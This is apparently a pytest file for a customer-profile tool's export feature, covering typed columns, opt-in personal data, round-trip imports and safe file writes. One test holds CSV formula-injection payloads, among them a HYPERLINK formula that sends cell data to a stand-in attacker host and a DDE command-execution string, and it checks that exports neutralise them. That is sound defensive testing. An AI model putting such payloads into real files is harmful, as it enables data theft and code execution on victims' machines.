"""Exports: every profile, typed attribute columns, personal information only when asked for."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import threading
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from fastapi.testclient import TestClient
from tests.conftest import ADMIN_KEY
from typer.testing import CliRunner

from portrait.api import create_app
from portrait.cli import app
from portrait.config import Settings
from portrait.mapping import RowMapping
from portrait.service import Portrait

ADMIN = {"Authorization": f"Bearer {ADMIN_KEY}"}


@pytest.fixture
def loaded(portrait: Portrait) -> Portrait:
    portrait.ingest_messages([
        {"type": "identify", "userId": "u1", "traits": {"email": "ann@example.com", "age": 31, "plan": "pro"}},
        {"type": "identify", "userId": "u2", "traits": {"email": "bob@example.com", "plan": "free"}},
        {"type": "track", "anonymousId": "a1", "event": "Product Viewed"},
    ])
    portrait.process_pending()
    return portrait


def test_parquet_export_has_typed_columns_and_no_personal_data_by_default(loaded: Portrait, tmp_path: Path) -> None:
    report = loaded.export_profiles(tmp_path / "p.parquet", "parquet")
    table = pq.read_table(tmp_path / "p.parquet")
    assert report["rows"] == 3 and report["personal_included"] == []
    assert "email" not in table.column_names
    rows = {r["user_id"]: r for r in table.to_pylist()}
    assert rows["u1"]["age"] == 31 and rows["u1"]["plan"] == "pro" and rows[None]["plan"] is None
    assert str(table.schema.field("age").type) == "int64"


def test_personal_information_only_when_asked(loaded: Portrait, tmp_path: Path) -> None:
    named = loaded.export_profiles(tmp_path / "a.csv", "csv", attributes=["email", "plan"])
    assert named["personal_included"] == ["email"]
    with (tmp_path / "a.csv").open() as handle:
        assert sorted(r["email"] for r in csv.DictReader(handle) if r["email"]) == ["ann@example.com",
                                                                                   "bob@example.com"]
    everything = loaded.export_profiles(tmp_path / "b.ndjson", "ndjson", include_personal=True)
    assert "email" in everything["personal_included"]
    assert len((tmp_path / "b.ndjson").read_text().splitlines()) == 3


def test_export_errors(loaded: Portrait, tmp_path: Path) -> None:
    from portrait.errors import BadRequest

    with pytest.raises(BadRequest, match="format 'xlsx' is not one of"):
        loaded.export_profiles(tmp_path / "x.xlsx", "xlsx")
    with pytest.raises(BadRequest, match="no attribute has the code 'nope'"):
        loaded.export_profiles(tmp_path / "x.csv", "csv", attributes=["nope"])


def test_export_through_the_api_and_cli(loaded: Portrait, tmp_path: Path) -> None:
    with TestClient(create_app(portrait=loaded)) as client:
        response = client.get("/api/exports/profiles", headers=ADMIN, params={"format": "ndjson"})
        assert response.status_code == 200
        report = json.loads(response.headers["x-portrait-export"])
        assert report["rows"] == 3 and "path" not in report  # the server's temporary file is its own business
        assert len(response.text.splitlines()) == 3 and "ann@example.com" not in response.text
        bad = client.get("/api/exports/profiles", headers=ADMIN, params={"format": "xml"})
        assert bad.status_code == 400 and bad.json()["code"] == "invalid_format"
    loaded.close()
    result = CliRunner().invoke(app, ["export", "profiles", "-o", str(tmp_path / "out.csv"), "--db",
                                      loaded.settings.db_path])
    assert result.exit_code == 0, result.output
    assert "Exported 3 profiles" in result.output
    assert (tmp_path / "out.csv").read_text().startswith('"profile_id","user_id"')




def test_export_reports_with_any_text_fit_in_a_header(tmp_path: Path) -> None:
    from portrait.config import Settings

    service = Portrait(Settings(db_path=str(tmp_path / "h.duckdb"), admin_key=ADMIN_KEY), background=False)
    try:
        with TestClient(create_app(portrait=service)) as client:
            answer = client.get("/api/exports/profiles", params={"purpose": "marketing-Ā-ß"},
                                headers={"Authorization": f"Bearer {ADMIN_KEY}"})
            assert answer.status_code == 200  # found by schemathesis: non-Latin-1 text in the report header
            assert json.loads(answer.headers["x-portrait-export"])["purpose"] == "marketing-Ā-ß"
    finally:
        service.close()


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_defused(portrait: Portrait, tmp_path: Path) -> None:
    notes = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3*A1", "@SUM(A1:A9)",
             "\tx", "+48 512-345-678", "-12.5", "plain = text", "2024-01-05"]
    portrait.ingest_messages([{"type": "identify", "userId": f"u{i}", "traits": {"note": note}}
                              for i, note in enumerate(notes)] +
                             [{"type": "identify", "userId": "=1+2", "traits": {"note": None}}])
    portrait.process_pending()
    portrait.export_profiles(tmp_path / "p.csv", "csv", attributes=["note"])
    with (tmp_path / "p.csv").open(newline="") as handle:
        rows = {row["user_id"]: row["note"] for row in csv.DictReader(handle)}
    assert [rows[f"u{i}"] for i in range(len(notes))] == [
        "'" + notes[0], "'" + notes[1], "'" + notes[2], "'" + notes[3], "'\tx", "+48 512-345-678", "-12.5",
        "plain = text", "2024-01-05"]
    assert rows["'=1+2"] == ""
    portrait.export_profiles(tmp_path / "p.ndjson", "ndjson", attributes=["note"])
    assert notes[0] in [json.loads(line)["note"] for line in (tmp_path / "p.ndjson").read_text().splitlines()]


def test_an_export_imported_back_gives_no_profile_id_trait(loaded: Portrait, tmp_path: Path) -> None:
    """Re-importing an export added its profile_id column as a custom trait (ids of the old database) unless
    --traits listed every other column. Portrait's own bookkeeping columns are no traits now; the message ids stay
    those derived before (from the row with profile_id), so a file imported before adds nothing again."""
    from portrait.mapping import MessageIds

    loaded.export_profiles(tmp_path / "p.ndjson", "ndjson", include_personal=True)
    old_ids = {row["profile_id"]: row for row in map(json.loads, (tmp_path / "p.ndjson").read_text().splitlines())}
    target = str(tmp_path / "fresh.duckdb")
    imported = CliRunner().invoke(app, ["import", "profiles", str(tmp_path / "p.ndjson"), "--user-id", "user_id",
                                        "--db", target], env={"PORTRAIT_NO_PROGRESS": "1"})
    assert imported.exit_code == 0, imported.output
    assert "missing_identity: 1" in imported.output  # the anonymous profile: the export holds no identifier of it
    fresh = Portrait(Settings(db_path=target), background=False)
    try:
        fresh.process_pending()
        assert fresh.traits("user_id:u1") == {"email": "ann@example.com", "age": 31, "plan": "pro"}
        assert "profile_id" not in {a["code"] for a in fresh.attributes.list()}
        u1 = next(row for row in old_ids.values() if row["user_id"] == "u1")
        before = {"type": "identify", "userId": "u1", "traits": {k: v for k, v in u1.items()
                                                                 if k != "user_id" and v is not None}}
        stored = fresh.events("user_id:u1")["events"][0]["message_id"]
        assert stored == MessageIds().assign(before)["messageId"]
    finally:
        fresh.close()


LISTS_AND_OBJECTS = [
    {"type": "identify", "userId": "u1", "traits": {"tags": ["a", "b"], "mixed": [1, "x", {"k": None}],
                                                    "prefs": {"colors": {"fav": "red", "n": [1, 2]}}}},
    {"type": "identify", "userId": "u2", "traits": {"tags": [], "prefs": {"colors": {"other": True}}}},
]


def define_lists(service: Portrait) -> None:
    for code in ("tags", "mixed"):
        service.create_attribute({"code": code, "name": code, "type": "list"})


@pytest.mark.parametrize("file_format", ["ndjson", "parquet"])
def test_lists_and_objects_are_exported_as_values_and_import_back(portrait: Portrait, tmp_path: Path,
                                                                  file_format: str) -> None:
    """Lists and objects were written as JSON text, so imported back a list attribute refused them (expected
    list, got varchar) and an object became text. NDJSON writes them as JSON values; Parquet a list as a native list
    column when one element type holds it exactly, else (and objects always) as the Parquet JSON type."""
    define_lists(portrait)
    portrait.ingest_messages(LISTS_AND_OBJECTS)
    portrait.process_pending()
    path = tmp_path / f"p.{file_format}"
    portrait.export_profiles(path, file_format, attributes=["tags", "mixed", "prefs_colors"])
    if file_format == "parquet":
        schema = pq.read_schema(path)
        assert str(schema.field("tags").type) == "list<element: string>"
        assert {str(schema.field(c).type) for c in ("mixed", "prefs_colors")} == {"extension<arrow.json>"}
    else:
        assert json.loads(path.read_text().splitlines()[-1])["tags"] == ["a", "b"]
    fresh = Portrait(Settings(db_path=str(tmp_path / "fresh.duckdb")), background=False)
    try:
        define_lists(fresh)
        report = fresh.import_file(path, mapping=RowMapping("profiles", user_id="user_id"))
        assert report.rejected == 0
        fresh.process_pending()
        for user in ("u1", "u2"):
            assert fresh.traits(f"user_id:{user}") == portrait.traits(f"user_id:{user}")
        assert fresh.data_quality()["issues"] == []
        assert fresh.attributes.get("prefs_colors")["type"] == "object"
    finally:
        fresh.close()


def test_a_parquet_json_column_is_read_as_the_values_it_holds(portrait: Portrait, tmp_path: Path) -> None:
    """DuckDB and Portrait write JSON columns with the Parquet JSON type; they were read as text."""
    import pyarrow as pa

    path = tmp_path / "j.parquet"
    pq.write_table(pa.table({"id": ["u1", "u2"], "tags": pa.array(['["a"]', "not json"], pa.json_())}), path)
    portrait.import_file(path, mapping=RowMapping("profiles", user_id="id"))
    portrait.process_pending()
    assert portrait.traits("user_id:u1")["tags"] == ["a"]
    assert [(i["raw_value"], i["reason"]) for i in portrait.data_quality()["issues"]] == [
        ('"not json"', "expected list, got varchar")]  # text that is not JSON stays text, for the rules to judge


@pytest.mark.parametrize("file_format", ["csv", "ndjson", "parquet"])
def test_integers_past_int64_are_exported_exactly_and_import_back(portrait: Portrait, tmp_path: Path,
                                                                  file_format: str) -> None:
    """An integer attribute takes whole numbers up to 2^64 - 1; the export cast them to BIGINT and wrote an empty
    cell for those past 2^63 - 1. Now the column is int64 while every value fits and decimal(20, 0) otherwise; and
    the integer attribute takes such a number written as text (a CSV cell) as it takes the number."""
    values = {"u1": 2 ** 64 - 1, "u2": -(2 ** 63), "u3": 5}
    portrait.create_attribute({"code": "order_no", "name": "Order", "type": "integer"})
    portrait.ingest_messages([{"type": "identify", "userId": u, "traits": {"order_no": v}} for u, v in values.items()])
    portrait.process_pending()
    path = tmp_path / f"p.{file_format}"
    portrait.export_profiles(path, file_format, attributes=["order_no"])
    if file_format == "csv":
        assert "18446744073709551615" in path.read_text()
    elif file_format == "ndjson":
        assert sorted(json.loads(line)["order_no"] for line in path.read_text().splitlines()) == sorted(
            values.values())
    else:
        assert str(pq.read_schema(path).field("order_no").type) == "decimal128(20, 0)"
    fresh = Portrait(Settings(db_path=str(tmp_path / "fresh.duckdb")), background=False)
    try:
        fresh.create_attribute({"code": "order_no", "name": "Order", "type": "integer"})
        fresh.import_file(path, mapping=RowMapping("profiles", user_id="user_id"))
        fresh.process_pending()
        assert {u: fresh.traits(f"user_id:{u}")["order_no"] for u in values} == values
        assert fresh.data_quality()["issues"] == []
    finally:
        fresh.close()


def test_integers_that_fit_int64_stay_an_int64_column(portrait: Portrait, tmp_path: Path) -> None:
    portrait.ingest_messages([{"type": "identify", "userId": "u1", "traits": {"age": 2 ** 63 - 1}}])
    portrait.process_pending()
    portrait.export_profiles(tmp_path / "p.parquet", "parquet", attributes=["age"])
    assert pq.read_table(tmp_path / "p.parquet").column("age").type == "int64"
    assert pq.read_table(tmp_path / "p.parquet").column("age").to_pylist() == [2 ** 63 - 1]


EVERY_TYPE = [
    {"type": "identify", "userId": "u1", "traits": {
        "order_no": 2 ** 64 - 1, "level": 5, "price": 9.5, "vip": True, "plan": "pro", "tags": ["a", "b"],
        "mixed": [1, "x", {"k": None}], "prefs": {"colors": {"fav": "red", "n": [1, 2]}}, "birthday": "1990-02-03",
        "created_at": "2024-01-05T10:11:12.345Z", "note": "Zażółć 名前 😀", "empty": ""}},
    {"type": "identify", "userId": "u2", "traits": {"order_no": -5, "tags": [], "prefs": {"colors": {"on": True}},
                                                    "created_at": "2024-01-05T10:11:12+02:00", "note": None}},
]
TYPED = {"order_no": "integer", "level": "integer", "price": "number", "vip": "boolean", "plan": "enum",
         "tags": "list", "mixed": "list", "empty": "string", "note": "string"}
# What CSV cannot keep: lists and objects are JSON text (a list attribute refuses them), "" is an empty cell as
# null is, and a datetime is read as a time and written again in UTC, as the API writes times (so one sent in that
# form, u1's, comes back as it was; u2's +02:00 does not).
CSV_LOSES = {"u1": {"tags", "mixed", "prefs_colors", "empty"}, "u2": {"tags", "prefs_colors", "created_at"}}


def define_every_type(service: Portrait) -> None:
    for code, kind in TYPED.items():
        service.create_attribute({"code": code, "name": code, "type": kind,
                                  **({"validation": {"values": ["free", "pro"]}} if kind == "enum" else {})})


@pytest.mark.parametrize("file_format", ["ndjson", "parquet", "csv"])
def test_every_attribute_type_round_trips_through_an_export(portrait: Portrait, tmp_path: Path,
                                                            file_format: str) -> None:
    """Export profiles with every attribute type and import them into a fresh database with the same definitions:
    NDJSON and Parquet give the same traits; CSV all but what it cannot hold (CSV_LOSES, documented)."""
    define_every_type(portrait)
    portrait.ingest_messages(EVERY_TYPE)
    portrait.process_pending()
    path = tmp_path / f"p.{file_format}"
    portrait.export_profiles(path, file_format, include_personal=True)
    fresh = Portrait(Settings(db_path=str(tmp_path / "fresh.duckdb")), background=False)
    try:
        define_every_type(fresh)
        result = CliRunner().invoke(app, ["import", "profiles", str(path), "--user-id", "user_id", "--db",
                                          fresh.settings.db_path], env={"PORTRAIT_NO_PROGRESS": "1"})
        assert result.exit_code == 0, result.output
        fresh.process_pending()
        for user in ("u1", "u2"):
            lost = CSV_LOSES[user] if file_format == "csv" else set()
            want, got = portrait.traits(f"user_id:{user}"), fresh.traits(f"user_id:{user}")
            assert {k: v for k, v in got.items() if k not in lost} == {k: v for k, v in want.items()
                                                                       if k not in lost}
    finally:
        fresh.close()


def test_an_export_is_not_written_over_a_file_without_force(loaded: Portrait, tmp_path: Path) -> None:
    """The same export typed again a day later wrote over yesterday's file without a word."""
    loaded.close()
    out = tmp_path / "customers.csv"
    out.write_text("yesterday's export\n")
    command = ["export", "profiles", "-o", str(out), "--db", loaded.settings.db_path]
    refused = CliRunner().invoke(app, command)
    assert refused.exit_code == 1
    assert f"{out} exists already: pass --force to write the export over it" in " ".join(refused.output.split())
    assert out.read_text() == "yesterday's export\n"
    forced = CliRunner().invoke(app, [*command, "--force"])
    assert forced.exit_code == 0, forced.output
    assert out.read_text().startswith('"profile_id","user_id"')
    assert sorted(p.name for p in tmp_path.iterdir() if "customers" in p.name) == ["customers.csv"]


@pytest.mark.parametrize("small_disk", ["1m"], indirect=True)  # the fixture is conftest's
def test_an_export_cut_short_leaves_the_file_that_was_there(portrait: Portrait, small_disk: Path) -> None:
    """An export that cannot finish (here the disk fills up; Ctrl-C, a server gone away alike) was written straight
    into the file named: what it had written stayed there, half a file, and yesterday's file was lost. It is now
    written beside it and takes the name only once whole."""
    portrait.ingest_messages([{"type": "identify", "userId": f"customer-{n:06d}", "traits": {"plan": "pro" * 20}}
                              for n in range(20_000)])
    portrait.process_pending()
    portrait.close()
    out = small_disk / "customers.ndjson"
    out.write_text("yesterday's export\n")
    cut = CliRunner().invoke(app, ["export", "profiles", "-o", str(out), "--force", "--db",
                                   portrait.settings.db_path])
    assert cut.exit_code == 1, cut.output
    assert f"cannot write the export to {out}" in " ".join(cut.output.split())
    assert out.read_text() == "yesterday's export\n"
    assert [p.name for p in small_disk.iterdir()] == ["customers.ndjson"]  # nothing half-written left beside it


def _cli(*args: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("PORTRAIT_")}
    return subprocess.run([sys.executable, "-m", "portrait", *args], capture_output=True, text=True, timeout=120,
                          env={**env, "PORTRAIT_NO_PROGRESS": "1"}, check=False)


def test_an_export_to_dev_stdout_writes_the_file_there_and_its_report_to_stderr(loaded: Portrait) -> None:
    """-o /dev/stdout was refused as a file that exists (pass --force), and with --force failed writing a hidden
    .partial beside it in /dev and renaming it. A file that is not a regular one is now written straight to."""
    loaded.close()
    exported = _cli("export", "profiles", "-o", "/dev/stdout", "--format", "csv", "--db", loaded.settings.db_path)
    assert exported.returncode == 0, exported.stderr
    rows = list(csv.DictReader(io.StringIO(exported.stdout)))  # the data only: the report went to stderr
    assert sorted(r["user_id"] for r in rows) == ["", "u1", "u2"]
    assert "Exported 3 profiles" in exported.stderr


def test_an_export_to_a_fifo_writes_into_it(loaded: Portrait, tmp_path: Path) -> None:
    loaded.close()
    fifo = tmp_path / "profiles.ndjson"
    os.mkfifo(fifo)
    read: list[bytes] = []
    reader = threading.Thread(target=lambda: read.append(fifo.read_bytes()), daemon=True)
    reader.start()
    exported = _cli("export", "profiles", "-o", str(fifo), "--db", loaded.settings.db_path)
    if exported.returncode != 0:  # nothing opened the fifo to write: the reader waits for a writer
        os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
    reader.join(60)
    assert exported.returncode == 0, exported.stderr
    assert sorted(json.loads(line)["user_id"] or "" for line in read[0].splitlines()) == ["", "u1", "u2"]
    assert [p.name for p in tmp_path.iterdir() if "profiles" in p.name] == ["profiles.ndjson"]  # no .partial


def test_a_partial_file_a_killed_export_left_is_removed_by_the_next_one_and_a_live_ones_is_left(
        loaded: Portrait, tmp_path: Path) -> None:
    """An export killed (kill -9) left its hidden .partial beside the file for ever; the next export to the same
    file removes it, saying so, and leaves the one of an export that is still running (its process is alive)."""
    loaded.close()
    ended = subprocess.Popen([sys.executable, "-c", "pass"])
    ended.wait()
    stale = tmp_path / f".profiles.csv.{ended.pid}.1.partial"
    live = tmp_path / f".profiles.csv.{os.getpid()}.2.partial"
    other = tmp_path / f".others.csv.{ended.pid}.1.partial"  # another file's: not this export's to judge
    for path in (stale, live, other):
        path.write_text("half an export")
    exported = _cli("export", "profiles", "-o", str(tmp_path / "profiles.csv"), "--db", loaded.settings.db_path)
    assert exported.returncode == 0, exported.stderr
    said = " ".join(exported.stderr.split())
    assert f"removed {stale.name}, left by an export that was interrupted (process {ended.pid} is gone)" in said
    assert f"left {live.name} alone: process {os.getpid()} is still writing it" in said
    assert not stale.exists() and live.exists() and other.exists()
